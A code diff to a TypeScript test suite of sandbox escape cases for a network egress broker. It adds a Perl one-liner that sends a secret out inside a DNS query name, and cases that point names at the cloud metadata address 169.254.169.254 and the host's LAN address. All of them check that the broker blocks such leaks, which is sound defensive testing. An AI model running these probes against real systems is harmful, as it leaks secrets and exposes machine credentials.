@@ -1,13 +1,17 @@
+import { createSocket, type Socket as DatagramSocket } from 'node:dgram'
 import { once } from 'node:events'
 import { connect, createServer, type AddressInfo, type Server, type Socket } from 'node:net'
 import { join } from 'node:path'
 import { Duplex } from 'node:stream'
 import { connect as tlsConnect } from 'node:tls'
-import { proxyPort } from '../../../src/engine/base/sandbox.ts'
+import { namePort, nameServer, proxyPort } from '../../../src/engine/base/sandbox.ts'
 import { aliasesFor, parseOutputs, startBroker } from '../../../src/engine/egress/index.ts'
 import type { EscapeCase } from '../case.ts'
 import type { World } from '../world.ts'
 import { listen } from './ipc.ts'
+import { hostAddress } from './network.ts'
+
+const lanAddress = hostAddress()
 
 type Rules = Parameters<typeof parseOutputs>[0]
 
@@ -24,17 +28,28 @@ type Attack = {
   readonly target: (port: number) => string
   /** What every name resolves to. */
   readonly address?: string
+  /** Where the oracle listens; on loopback unless said otherwise. */
+  readonly listens?: string
   readonly killBroker?: boolean
 }
 
-const throughBroker = ({ id, attack, guard, rules, target, address, killBroker }: Attack): EscapeCase => ({
+const throughBroker = ({
+  id,
+  attack,
+  guard,
+  rules,
+  target,
+  address,
+  listens = '127.0.0.1',
+  killBroker,
+}: Attack): EscapeCase => ({
   id,
   group: 'Network',
   attack,
   guard,
   claim: 'blocked',
   stage: async (world) => {
-    const { server, came } = await listen(world, { port: 0, host: '127.0.0.1' })
+    const { server, came } = await listen(world, { port: 0, host: listens })
     const { port } = server.address() as AddressInfo
     return {
       probe: connectBy(target(port)),
@@ -123,6 +138,61 @@ function carryUnread(client: Socket, port: number): void {
   client.on('data', onData)
 }
 
+/** Asks the name server that the sandbox knows for an address, and waits for what it says. */
+const askFor = (name: string) =>
+  `perl -e 'use Socket; socket(S, PF_INET, SOCK_DGRAM, 0); $q = pack("n6", 7, 256, 1, 0, 0, 0); $q .= pack("C/a*", $_) for split(/[.]/, "${name}"); send(S, $q . pack("Cn2", 0, 1, 1), 0, pack_sockaddr_in(${namePort}, inet_aton("${nameServer}"))); $r = ""; vec($r, fileno(S), 1) = 1; select($r, undef, undef, 5)'`
+
+/** A secret as part of a name: whoever answers for that name, anywhere, would hear it. */
+const nameLookup: EscapeCase = {
+  id: 'egress-name-lookup',
+  group: 'Network',
+  attack: 'asks for the address of a name that carries a secret, below an allowed host and elsewhere',
+  guard: 'the broker answers questions for names by itself and asks nobody outside',
+  claim: 'blocked',
+  stage: async (world) => {
+    const heard: string[] = []
+    const refused: string[] = []
+    const outside = createSocket('udp4').on('message', (message) => heard.push(message.toString('latin1')))
+    await new Promise<void>((resolve) => outside.bind(0, '127.0.0.1', resolve))
+    world.defer(() => new Promise<void>((resolve) => outside.close(resolve)))
+    const socketPath = join(world.ground.folder, 'b.sock')
+    return {
+      probe: `${askFor(`${world.secret}.allowed.test`)}; ${askFor(`${world.secret}.other.test`)}; sleep 0.1`,
+      escaped: () => heard.some((text) => text.includes(world.secret)),
+      // That the question came as far as the broker is part of the record.
+      tried: () => heard.length > 0 || refused.includes(`${world.secret}.other.test`),
+      request: { network: 'broker' },
+      control: 'sandbox',
+      attach: async (sandbox, guarded) => {
+        if (!guarded) {
+          await serve(world, { path: socketPath }, (client) => askOutside(client, outside))
+          await sandbox.startRelay(socketPath, [])
+          return
+        }
+        const resolver = async (host: string) => {
+          heard.push(host)
+          return ['192.0.2.1']
+        }
+        const policy = parseOutputs({ allow: ['*.allowed.test'] })
+        const onDecision = ({ host }: { host: string }) => void refused.push(host)
+        const broker = await startBroker({ socketPath, policy, resolver, onDecision })
+        world.defer(() => broker.close())
+        await sandbox.startRelay(socketPath, aliasesFor(policy), (relay) => broker.adopt(relay))
+      },
+    }
+  },
+}
+
+/** The control: a name server like any other, which passes each question on. */
+function askOutside(client: Socket, outside: DatagramSocket): void {
+  client.once('data', (bytes) => {
+    if (!bytes.toString('latin1').startsWith('names\n')) return void client.destroy()
+    outside.send(bytes.subarray('names\n'.length + 2), outside.address().port, '127.0.0.1')
+    // No answer is an answer too: the secret is out by then.
+    setTimeout(() => client.end(Buffer.from([0, 1, 0])), 50)
+  })
+}
+
 /** The first bytes of TLS to a name. */
 async function clientHello(servername: string): Promise<Buffer> {
   const { promise, resolve } = Promise.withResolvers<Buffer>()
@@ -194,6 +264,29 @@ export const egress: readonly EscapeCase[] = [
     rules: (port) => [{ mode: 'open' }, { pins: { 'a.test': `127.0.0.1:${port}` } }],
     target: (port) => `a.test:${port}`,
   }),
+  throughBroker({
+    id: 'egress-metadata-address',
+    attack: 'lets a name resolve to the metadata service, which hands out credentials of the machine',
+    guard: byAddress,
+    address: '169.254.169.254',
+    rules: (port) => [{ mode: 'open' }, { pins: { 'a.test': `127.0.0.1:${port}` } }],
+    target: (port) => `a.test:${port}`,
+  }),
+  ...(lanAddress === null
+    ? []
+    : [
+        throughBroker({
+          id: 'egress-lan-address',
+          attack:
+            "lets a name resolve to the host's own address on its network, where services of the LAN are",
+          guard: byAddress,
+          address: lanAddress,
+          listens: '0.0.0.0',
+          rules: () => [{ mode: 'open' }, { pins: { 'a.test': `${lanAddress}/32` } }],
+          target: (port) => `a.test:${port}`,
+        }),
+      ]),
+  nameLookup,
   disguised(
     'egress-host-header',
     'asks an allowed host, behind an empty line, for a page of another one that the same front end serves',
